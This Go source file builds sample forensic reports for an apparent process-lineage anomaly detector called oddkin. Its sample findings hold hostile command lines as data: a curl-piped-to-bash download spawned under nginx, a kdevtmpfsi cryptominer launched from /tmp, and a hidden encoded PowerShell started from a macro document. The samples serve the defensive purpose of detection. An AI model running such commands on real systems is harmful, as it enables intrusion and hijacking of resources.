package report

import (
	"fmt"
	"strings"
	"time"

	"oddkin/tree"
)

// at is a moment of the sample documents' day.
func at(clock string) time.Time {
	t, err := time.Parse("2006-01-02 15:04:05.999999999", "2025-03-02 "+clock)
	if err != nil {
		panic(err)
	}
	return t
}

// webServer is a document as a Debian web server with a miner planted through a
// web shell gives it: two inputs, one of them damaged, and findings that show
// every kind of link, a long chain, a disagreement and a process in place.
func webServer() *Document {
	d := &Document{
		Schema: Schema,
		Manifest: Manifest{
			Tool: "oddkin", Version: "1.2.0",
			Model:   &Model{Name: "base", Digest: strings.Repeat("9f86d081", 8), Threshold: 0.5},
			Options: []Option{{"top", "20"}, {"raw", "false"}},
			Inputs:  []File{{"case/web01/audit.log", strings.Repeat("ab", 32)}, {"case/web01/audit.log.1.gz", ""}},
		},
		Evidence: Evidence{
			Inputs: []Input{
				{
					File: "case/web01/audit.log", Format: "auditd", Reason: "lines start type=… msg=audit(",
					Bytes: 210_400_112, Packed: 210_400_112, Records: 1_409_233, Used: 402_118, NotNeeded: 1_007_000,
					Duplicate: 100, Malformed: 15, Events: 61_840, First: at("00:00:01"), Last: at("23:59:58.25"),
				},
				{
					File: "case/web01/audit.log.1.gz", Format: "auditd", Reason: "lines start type=… msg=audit(",
					Bytes: 8_388_608, Packed: 701_442, Records: 52_000, Used: 11_000, NotNeeded: 40_988, Malformed: 12,
					Events: 1_500, Skipped: 4096, First: at("00:00:01"), Last: at("00:44:00"), Warnings: 12, Truncated: true,
				},
				{File: "case/web01/notes.docx", Reason: "no known format", Bytes: 12_100, Packed: 12_100},
			},
			Hosts: []Host{
				{Name: "web01", Boots: 2, Processes: 12_040, Chains: 1_371, First: at("00:00:01"), Last: at("23:59:58.25")},
				{Name: "db01", Boots: 1, Processes: 305, Chains: 38, First: at("08:12:00"), Last: at("19:02:11")},
			},
			First: at("00:00:01"), Last: at("23:59:58.25"),
			Processes: 12_345, Chains: 1_409, Shapes: 242, Flagged: 3, FlaggedChains: 18, FailedStarts: 7,
			Links:     Links{Root: 3, Observed: 11_800, PID: 300, Inferred: 212, Orphan: 30},
			Standings: Standings{Started: 12_200, Seen: 120, Named: 25}, UnknownNames: 0.04,
		},
		Findings: []Finding{minerFinding(), longFinding(), differFinding(), ordinaryFinding()},
		Warnings: []Warning{
			{Source{"case/web01/audit.log.1.gz", 4_194_304, 0}, "hole of NUL bytes", 4096},
			{Source{"case/web01/audit.log.1.gz", 5_000_000, 48_213}, "record without a message id", 0},
			{Source{"case/web01/audit.log.1.gz", 5_000_120, 48_214}, "record without a message id", 0},
		},
		Crossings: []Crossing{{
			From:  End{ID: 61, Host: "web01", Name: "ssh", PID: 4140, CommandLine: "ssh root@db01", Start: at("14:05:00"), Source: Source{"case/web01/audit.log", 900, 50_000}},
			To:    End{ID: 90, Host: "db01", Name: "sshd", PID: 77, Start: at("14:05:01"), Source: Source{"case/web01/audit.log", 1200, 310}},
			Entry: "ssh", Rule: "the command names the second host, just before", Confidence: 0.85, Address: "203.0.113.10",
		}},
		FindingsOmitted: 238,
		WarningsOmitted: 9,
	}
	d.Evidence.Notes = notes(d, &tree.Counts{ClockSteps: 1, Starts: 1, Forks: 1, Exits: 1}, &tellings{})
	return d
}

// hop makes one hop of a sample chain.
func hop(depth int, image string, pid uint32, command, clock, link string) Hop {
	return Hop{depth, Process{
		Name: image[strings.LastIndexAny(image, `/\`)+1:], Image: image, PID: pid, CommandLine: command, Start: at(clock),
		User: "33", Link: link, Standing: "started", Source: Source{"case/web01/audit.log", int64(pid) * 4096, uint64(pid) * 7},
	}}
}

func minerFinding() Finding {
	hops := []Hop{
		hop(0, "/usr/lib/systemd/systemd", 1, "/sbin/init", "00:00:01", "root"),
		hop(1, "/usr/sbin/nginx", 812, "nginx: master process /usr/sbin/nginx", "00:00:09", "observed"),
		hop(2, "/usr/sbin/nginx", 830, "nginx: worker process", "00:00:09.5", "inferred"),
		hop(3, "/usr/bin/dash", 4120, "sh -c 'curl -s http://203.0.113.9/x.sh | bash >/dev/null 2>&1 &'", "14:02:11", "pid"),
		hop(4, "/usr/bin/bash", 4122, "bash", "14:02:11.04", "observed"),
		hop(5, "/tmp/.x/kdevtmpfsi", 4130, "/tmp/.x/kdevtmpfsi -o pool.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DsMTmQ -k", "14:02:14.2", "observed"),
	}
	hops[0].User, hops[1].User = "0", "0"
	hops[2].Rule, hops[2].CommandLine, hops[2].Standing = "service worker: same user and image as the service's start", "", "seen"
	hops[3].Logical = &Logical{
		ID: 17, Name: "docker", Image: "/usr/bin/docker", PID: 4100, CommandLine: "docker exec web sh", Start: at("14:02:10"),
		Rule: "its command line holds the command that was started", Confidence: 0.95, Source: Source{"case/web01/audit.log", 800, 49_000},
	}
	hops[3].Boundary, hops[3].Container, hops[3].Leads = &Boundary{ID: strings.Repeat("4f66", 16), Runtime: "runc", Rule: "started by a container runtime"}, strings.Repeat("4f66", 16), true
	hops[5].Lineage = strings.Repeat("c0ffee11", 8)
	hops[5].Deleted, hops[5].SameProcess, hops[5].AuditUser, hops[5].Session, hops[5].TTY = true, true, "1000", "12", "pts0"
	return Finding{
		Rank: 1, Score: 0.998, OwnScore: 0.998, Network: 0.99, Rarity: 0.97, Surprise: 0.6,
		Names:  []string{"systemd", "nginx", "nginx", "sh", "bash", "kdevtmpfsi"},
		Window: Window{0, 6},
		Why: []Reason{
			{3, 0.61, "sh under nginx was never seen in normal life"},
			{5, 0.22, "kdevtmpfsi is a name no corpus holds; its image lies in /tmp"},
		},
		Nearest: []string{"systemd", "nginx", "nginx"},
		Paths:   14, First: at("14:02:14.2"), Last: at("14:40:00"), Hosts: []string{"web01", "db01"}, HostCount: 2,
		Chains: []Chain{{Host: "web01", Boot: 2, Entry: "service", Hops: hops}},
	}
}

func longFinding() Finding {
	names := []string{"systemd", "sshd", "sshd", "sshd", "bash"}
	for range 12 {
		names = append(names, "bash")
	}
	names = append(names, "sudo", "vim", "sh", "python3", "perl", "socat", "nc")
	f := Finding{
		Rank: 2, Score: 0.871, OwnScore: 0.871, Network: 0.82, Rarity: 0.91, Surprise: 0.55, Names: names, Window: Window{14, 24},
		Why: []Reason{{19, 0.4, "sh under vim is rare: seen 2 times in 40,000 chains"}}, Nearest: []string{},
		Paths: 1, First: at("15:00:00"), Last: at("15:00:00"), Hosts: []string{"web01"}, HostCount: 1,
	}
	c := Chain{Host: "web01", Boot: 2, Entry: "remote"}
	for i, n := range names {
		c.Hops = append(c.Hops, hop(i, "/usr/bin/"+n, uint32(9000+i), n, fmt.Sprintf("15:00:%02d", i), "observed"))
	}
	f.Chains = []Chain{c}
	return f
}

func differFinding() Finding {
	hops := []Hop{
		hop(0, `C:\Windows\explorer.exe`, 4480, `C:\Windows\Explorer.EXE`, "09:00:00", "orphan"),
		hop(1, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, 7212, `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\ann\Downloads\invoice.docm"`, "09:03:40", "guid"),
		hop(2, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, 7300, `powershell -nop -w hidden -enc SQBFAFgA`, "09:03:44", "guid"),
	}
	hops[0].Rule, hops[0].Standing = "started before the log begins", "named"
	hops[2].GUID, hops[2].User = "B3C9AB12-4D6E-67C4-0000-0010A1B2C3D4", `CORP\ann`
	return Finding{
		Rank: 3, Score: 0.55, OwnScore: 0.31, Kin: &Kin{Rank: 1, Hop: 1}, Network: 0.93, Rarity: 0.2, Surprise: 0.3, OpinionsDiffer: true,
		Names: []string{"explorer", "winword", "powershell"}, Window: Window{0, 3},
		Why: []Reason{}, Nearest: []string{"explorer", "winword"},
		Paths: 3, First: at("09:03:44"), Last: at("09:30:00"), Hosts: []string{"db01"}, HostCount: 1,
		Chains: []Chain{{Host: "db01", Boot: 1, Entry: "login", Hops: hops}},
	}
}

func ordinaryFinding() Finding {
	return Finding{
		Rank: 4, Score: 0.02, OwnScore: 0.02, Network: 0.01, Rarity: 0.03, Surprise: 0.12, Names: []string{"systemd", "cron", "run-parts"},
		Window: Window{0, 3}, Why: []Reason{}, Nearest: []string{"systemd", "cron", "run-parts"},
		Paths: 1240, Hosts: []string{""}, HostCount: 1,
		Chains: []Chain{{Entry: "scheduled", Hops: []Hop{
			{0, Process{Name: "systemd", Link: "root", Standing: "named", Source: Source{"", -1, 0}}},
			{1, Process{Name: "cron", Link: "pid", Standing: "seen", Source: Source{"", -1, 0}}},
			{2, Process{Name: "run-parts", Link: "pid", Standing: "started", Source: Source{"list.csv", -1, 0}}},
		}}},
	}
}

// forestDocument is a document with a forest of two hosts: services with many
// equal children, a web shell, links of every kind and a lineage 40 deep.
func forestDocument() *Document {
	d := &Document{
		Schema:   Schema,
		Manifest: Manifest{Tool: "oddkin", Version: "1.2.0", Model: &Model{Name: "base", Threshold: 0.5}},
		Evidence: Evidence{Inputs: []Input{}, Hosts: []Host{}, Notes: []Note{}},
		Findings: []Finding{}, Warnings: []Warning{}, Forest: &Forest{Omitted: 2},
	}
	add := func(parent int32, host, image, user, command, clock, link string, score float32) int32 {
		id := int32(len(d.Forest.Nodes))
		n := Node{ID: id, Parent: parent, Score: score, Host: host, Boot: 1, Entry: "service"}
		if score > 0 {
			n.Rank = int(100 - 90*score)
		}
		n.Process = hop(0, image, uint32(1+37*id), command, clock, link).Process
		n.User = user
		d.Forest.Nodes = append(d.Forest.Nodes, n)
		return id
	}
	init := add(-1, "web01", "/usr/lib/systemd/systemd", "0", "/sbin/init", "00:00:01", "root", 0.998)
	cron := add(init, "web01", "/usr/sbin/cron", "0", "/usr/sbin/cron -f -P", "00:00:07", "observed", 0.031)
	for i := range 12 {
		sh := add(cron, "web01", "/usr/bin/dash", "0", "/bin/sh -c 'command -v debian-sa1 > /dev/null && debian-sa1 1 1'", fmt.Sprintf("%02d:15:01", i), "observed", 0.02+float32(i)/1000)
		add(sh, "web01", "/usr/lib/sysstat/debian-sa1", "0", "debian-sa1 1 1", fmt.Sprintf("%02d:15:01.2", i), "observed", 0.02+float32(i)/1000)
	}
	nginx := add(init, "web01", "/usr/sbin/nginx", "0", "nginx: master process /usr/sbin/nginx", "00:00:09", "observed", 0.998)
	worker := add(nginx, "web01", "/usr/sbin/nginx", "33", "", "00:00:10", "inferred", 0.998)
	sh := add(worker, "web01", "/usr/bin/dash", "33", "sh -c 'curl -s http://203.0.113.9/x.sh | bash >/dev/null 2>&1 &'", "14:02:11", "pid", 0.998)
	miner := add(sh, "web01", "/tmp/.x/kdevtmpfsi", "33", "/tmp/.x/kdevtmpfsi -o pool.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DsMTmQ -k", "14:02:14.2", "observed", 0.998)
	d.Forest.Nodes[miner].SameProcess = true
	d.Forest.Nodes[sh].Logical = &Logical{ID: cron, Name: "systemctl", PID: 4400, Rule: "it asks for a unit of that name just before", Confidence: 0.7}
	d.Forest.Nodes[sh].Boundary, d.Forest.Nodes[sh].Container = &Boundary{ID: "web", Runtime: "runc", Rule: "started by a container runtime"}, "web"
	deep := add(-1, "web01", "/usr/bin/su", "1000", "su -", "15:00:00", "orphan", 0.2)
	for range 39 {
		deep = add(deep, "web01", "/usr/bin/bash", "1000", "bash -c 'exec bash'", "15:00:00", "observed", 0.2)
	}
	explorer := add(-1, "ANN-PC", `C:\Windows\explorer.exe`, `CORP\ann.with.a.long.name`, `C:\Windows\Explorer.EXE`, "09:00:00", "orphan", 0)
	d.Forest.Nodes[explorer].Leads, d.Forest.Nodes[explorer].Entry = true, "login"
	d.Crossings = []Crossing{{
		From: End{ID: explorer, Host: "ANN-PC", Name: "explorer.exe", PID: d.Forest.Nodes[explorer].PID}, To: End{ID: deep - 39, Host: "web01", Name: "su"},
		Entry: "ssh", Rule: "the command names the second host, just before", Confidence: 0.85, Address: "192.0.2.9",
	}}
	add(explorer, "ANN-PC", `C:\Windows\System32\cmd.exe`, `CORP\ann.with.a.long.name`, `cmd /c "echo 日本語のとても長い名前のファイル.txt 日本語のとても長い名前のファイル.txt"`, "09:10:00", "guid", 0)
	return d
}
